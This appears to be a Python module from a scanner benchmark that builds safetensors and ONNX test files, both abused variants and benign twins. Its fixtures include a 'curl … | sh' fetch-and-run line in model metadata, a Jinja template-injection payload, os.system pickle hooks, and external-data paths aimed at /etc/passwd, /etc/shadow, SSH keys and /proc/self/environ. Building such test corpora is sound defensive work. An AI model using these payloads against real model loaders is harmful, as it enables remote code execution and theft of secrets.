"""Formats that should hold only numbers: safetensors and ONNX, bent or abused, and their honest twins."""

from __future__ import annotations

import base64
import json
import struct
from collections.abc import Iterator

from benchmarks.corpus.malicious.cases import Case
from benchmarks.corpus.malicious.hosts import EVIL, WEIGHTS

_HEADER = {"__metadata__": {"format": "pt"}, "w": {"dtype": "F32", "shape": [8], "data_offsets": [0, 32]}}


def safetensors(header: object, body: bytes = WEIGHTS, *, length: int | None = None, raw: bytes | None = None) -> bytes:
    """A safetensors file; the header may be any JSON, or ``raw`` bytes, with a true or claimed ``length``."""
    text = json.dumps(header, separators=(",", ":")).encode() if raw is None else raw
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text) if length is None else length) + text + body


def _tensor(dtype: str = "F32", shape: list[int] | None = None, offsets: list[int] | None = None) -> dict[str, object]:
    return {"dtype": dtype, "shape": [8] if shape is None else shape, "data_offsets": [0, 32] if offsets is None else offsets}


def _safetensors_cases() -> Iterator[Case]:
    headers: dict[str, object] = {
        "offset-past-end": {"w": _tensor(shape=[1 << 20], offsets=[0, 1 << 22])},
        "offset-reversed": {"w": _tensor(offsets=[32, 0])},
        "offset-negative": {"w": _tensor(offsets=[-32, 0])},
        "overlap": {"a": _tensor(), "b": _tensor(offsets=[0, 32])},
        "partial-overlap": {"a": _tensor(shape=[5], offsets=[0, 20]), "b": _tensor(shape=[5], offsets=[12, 32])},
        "hole": {"a": _tensor(shape=[2], offsets=[0, 8]), "b": _tensor(shape=[2], offsets=[24, 32])},
        "shape-mismatch": {"w": _tensor(shape=[9])},
        "shape-overflow": {"w": _tensor(shape=[1 << 33, 1 << 33], offsets=[0, 32])},
        "dtype-unknown": {"w": _tensor("PICKLE", [32])},
        "not-an-object": ["w", 1],
        "tensor-not-object": {"w": "../../etc/passwd"},
        "metadata-not-strings": {"__metadata__": {"hook": {"__reduce__": ["os.system", "echo inert"]}}, "w": _tensor()},
        "metadata-pickle": {"__metadata__": {"config": base64.b64encode(EVIL).decode()}, "w": _tensor()},
        "metadata-command": {"__metadata__": {"post_load": "curl -s http://198.51.100.7/x | sh"}, "w": _tensor()},
        "metadata-template": {
            "__metadata__": {"chat_template": "{{ lipsum.__globals__.os.popen('id').read() }}"},
            "w": _tensor(),
        },
    }
    for name, header in headers.items():
        yield Case(f"safetensors/{name}.safetensors", safetensors(header), f"safetensors-{name}")
    good = json.dumps(_HEADER).encode()
    raws: dict[str, bytes] = {
        "length-past-end": safetensors(_HEADER, length=1 << 40),
        "length-zero": safetensors(_HEADER, length=0),
        "length-all-ones": safetensors(_HEADER, length=(1 << 64) - 1),
        "not-json": safetensors(None, raw=b"\x80\x04cos\nsystem\n"),
        "leading-space": safetensors(None, raw=b"   " + good),
        "trailing-pickle": safetensors(_HEADER, WEIGHTS + EVIL),
        "trailing-bytes": safetensors(_HEADER, WEIGHTS + bytes(64)),
        "leading-pickle": EVIL + safetensors(_HEADER),
        "duplicate-key": safetensors(
            None,
            raw=b'{"w":{"dtype":"F32","shape":[8],"data_offsets":[0,32]},"w":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}',
        ),
        "duplicate-inner-key": safetensors(
            None, raw=b'{"w":{"dtype":"F32","shape":[8],"data_offsets":[0,32],"data_offsets":[0,4]}}'
        ),
        "json-nan": safetensors(None, raw=b'{"w":{"dtype":"F32","shape":[NaN],"data_offsets":[0,32]}}'),
        "float-offset": safetensors(None, raw=b'{"w":{"dtype":"F32","shape":[8],"data_offsets":[0,3.2e1]}}'),
        "bom": safetensors(None, raw=b"\xef\xbb\xbf" + good),
        "truncated-header": safetensors(_HEADER)[:30],
        "is-a-pickle": EVIL,
    }
    for name, data in raws.items():
        yield Case(f"safetensors/{name}.safetensors", data, f"safetensors-{name}")
    hidden = safetensors({"w": _tensor("U8", [len(EVIL)], [0, len(EVIL)])}, EVIL)
    yield Case("safetensors/tensor-holds-pickle.safetensors", hidden, "safetensors-hidden", "code-carrying")
    benign: dict[str, bytes] = {
        "one-tensor": safetensors(_HEADER),
        "two-tensors": safetensors({"a": _tensor(shape=[2, 2], offsets=[0, 16]), "b": _tensor(shape=[4], offsets=[16, 32])}),
        "scalar-and-empty": safetensors(
            {"s": _tensor(shape=[], offsets=[0, 4]), "e": _tensor(shape=[0], offsets=[4, 4])}, WEIGHTS[:4]
        ),
        "no-tensor": safetensors({}, b""),
        "many-dtypes": safetensors(
            {"h": _tensor("F16", [4], [0, 8]), "i": _tensor("I64", [1], [8, 16]), "u": _tensor("BOOL", [16], [16, 32])}
        ),
        "lora-metadata": safetensors(
            {"__metadata__": {"ss_network_dim": "8", "modelspec.title": "toad", "url": "https://example.com"}, "w": _tensor()}
        ),
    }
    for name, data in benign.items():
        yield Case(f"safetensors/benign-{name}.safetensors", data, f"safetensors-benign-{name}", "benign", payload=False)


def varint(number: int) -> bytes:
    out = bytearray()
    while number > 0x7F:
        out.append(number & 0x7F | 0x80)
        number >>= 7
    out.append(number)
    return bytes(out)


def field(number: int, value: int | str | bytes) -> bytes:
    """One protobuf field."""
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    data = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(data)) + data


def node(
    op: str, inputs: tuple[str, ...] = ("x",), outputs: tuple[str, ...] = ("y",), domain: str = "", attributes: bytes = b""
) -> bytes:
    """A NodeProto."""
    names = b"".join(field(1, name) for name in inputs) + b"".join(field(2, name) for name in outputs)
    return names + field(3, f"n_{op}") + field(4, op) + attributes + (field(7, domain) if domain else b"")


def attribute(name: str, value: bytes | str, kind: int = 3) -> bytes:
    """An attribute of a node: a string (3), tensor (4) or graph (5)."""
    place = {3: 4, 4: 5, 5: 6}[kind]
    return field(5, field(1, name) + field(place, value) + field(20, kind))


def external(location: str, name: str = "w", offset: int = 0, length: int = 32) -> bytes:
    """A TensorProto whose data lives in another file."""
    pairs = {"location": location, "offset": str(offset), "length": str(length)}
    data = b"".join(field(13, field(1, key) + field(2, value)) for key, value in pairs.items())
    return field(1, 8) + field(2, 1) + field(8, name) + data + field(14, 1)


def tensor(name: str = "w", raw: bytes = WEIGHTS) -> bytes:
    """A TensorProto with its data inside."""
    return field(1, len(raw) // 4) + field(2, 1) + field(8, name) + field(9, raw)


def graph(nodes: tuple[bytes, ...], tensors: tuple[bytes, ...] = ()) -> bytes:
    """A GraphProto."""
    value = field(1, "x") + field(2, field(1, field(1, 1) + field(2, field(1, field(1, 8)))))
    head = b"".join(field(1, item) for item in nodes) + field(2, "g") + b"".join(field(5, item) for item in tensors)
    return head + field(11, value) + field(12, value.replace(b"x", b"y", 1))


def onnx(body: bytes, *, domains: tuple[str, ...] = ("",), extra: bytes = b"") -> bytes:
    """A ModelProto."""
    imports = b"".join(field(8, field(1, domain) + field(2, 17)) for domain in domains)
    return field(1, 9) + field(2, "toad") + field(7, body) + imports + extra


def _onnx_cases() -> Iterator[Case]:
    relu = node("Relu")
    domains = ("com.inert.ops", "ai.onnx.contrib", "com.microsoft.extensions", "org.pytorch.aten")
    custom = {
        "custom-domain": ("Exec", "com.inert.ops", attribute("command", "echo toadstone-inert")),
        "pyop": ("PyOp", "ai.onnx.contrib", attribute("module", "os") + attribute("compute", "system")),
        "pycustomop": ("PyCustomOp", "com.microsoft.extensions", attribute("compute", "system")),
        "pythonop": ("PythonOp", "com.microsoft", attribute("func_name", "os.system")),
        "aten": ("ATen", "org.pytorch.aten", attribute("operator", "from_file")),
        "ep-context": ("EPContext", "com.microsoft", attribute("ep_cache_context", "../../toadstone-inert.so")),
        "triton": ("TritonOp", "com.microsoft", attribute("func_name", "inert")),
        "external-op": ("ExternalStream", "com.inert.io", attribute("url", "http://198.51.100.7/x")),
    }
    for name, (op, domain, extra) in custom.items():
        model = onnx(graph((node(op, domain=domain, attributes=extra),)), domains=("", domain, *domains))
        yield Case(f"onnx/{name}.onnx", model, f"onnx-operator-{name}")
    places = {
        "parent": "../../../../etc/passwd",
        "absolute": "/etc/shadow",
        "windows": "..\\..\\secret.bin",
        "drive": "C:\\secret.bin",
        "nested-parent": "data/../../../../root/.ssh/id_ed25519",
        "url": "http://198.51.100.7/weights.bin",
        "nul": "weights.bin\x00/../../etc/passwd",
        "home": "~/.ssh/id_ed25519",
        "proc": "/proc/self/environ",
        "dot-slash": "./../outside.bin",
    }
    for name, place in places.items():
        model = onnx(graph((relu,), (external(place),)))
        yield Case(f"onnx/external-{name}.onnx", model, f"onnx-external-{name}", source="CVE-2024-27318")
    in_node = node("Constant", (), ("y",), attributes=attribute("value", external("../../../etc/passwd"), 4))
    yield Case("onnx/external-in-constant.onnx", onnx(graph((in_node,))), "onnx-external-data", source="CVE-2024-27318")
    branch = graph((node("Exec", domain="com.inert.ops"),), (external("/etc/passwd", "b"),))
    hidden = node("If", attributes=attribute("then_branch", branch, 5) + attribute("else_branch", graph((relu,)), 5))
    yield Case("onnx/hidden-branch.onnx", onnx(graph((hidden,)), domains=("", "com.inert.ops")), "onnx-subgraph")
    body = (
        field(1, "Relu")
        + field(4, "x")
        + field(5, "y")
        + field(7, node("PyOp", domain="ai.onnx.contrib"))
        + field(10, "com.inert.ops")
    )
    shadow = onnx(graph((node("Relu", domain="com.inert.ops"),)), domains=("", "com.inert.ops"), extra=field(25, body))
    yield Case("onnx/function-body.onnx", shadow, "onnx-function")
    trained = onnx(graph((relu,)), extra=field(20, field(1, graph((node("Exec", domain="com.inert.ops"),)))))
    yield Case("onnx/training-graph.onnx", trained, "onnx-subgraph")
    yield Case("onnx/trailing-pickle.onnx", onnx(graph((relu,))) + EVIL, "onnx-trailing")
    sized = onnx(graph((relu,), (external("weights.bin", offset=1 << 40, length=1 << 50),)))
    yield Case("onnx/external-offset-lie", {"model.onnx": sized, "weights.bin": WEIGHTS}, "onnx-external-data")
    benign = {
        "relu": onnx(graph((relu,), (tensor(),))),
        "two-nodes": onnx(graph((node("MatMul", ("x", "w"), ("h",)), node("Relu", ("h",), ("y",))), (tensor(),))),
        "ml-domain": onnx(graph((node("Scaler", domain="ai.onnx.ml"),)), domains=("", "ai.onnx.ml")),
        "if": onnx(
            graph(
                (
                    node(
                        "If", attributes=attribute("then_branch", graph((relu,)), 5) + attribute("else_branch", graph((relu,)), 5)
                    ),
                )
            )
        ),
        "metadata": onnx(graph((relu,), (tensor(),)), extra=field(14, field(1, "author") + field(2, "toad"))),
    }
    for name, data in benign.items():
        yield Case(f"onnx/benign-{name}.onnx", data, f"onnx-benign-{name}", "benign", payload=False)
    beside = {"model.onnx": onnx(graph((relu,), (external("weights.bin"),))), "weights.bin": WEIGHTS}
    yield Case("onnx/benign-external", beside, "onnx-benign", "benign", payload=False)


def cases() -> Iterator[Case]:
    """Safetensors and ONNX."""
    yield from _safetensors_cases()
    yield from _onnx_cases()
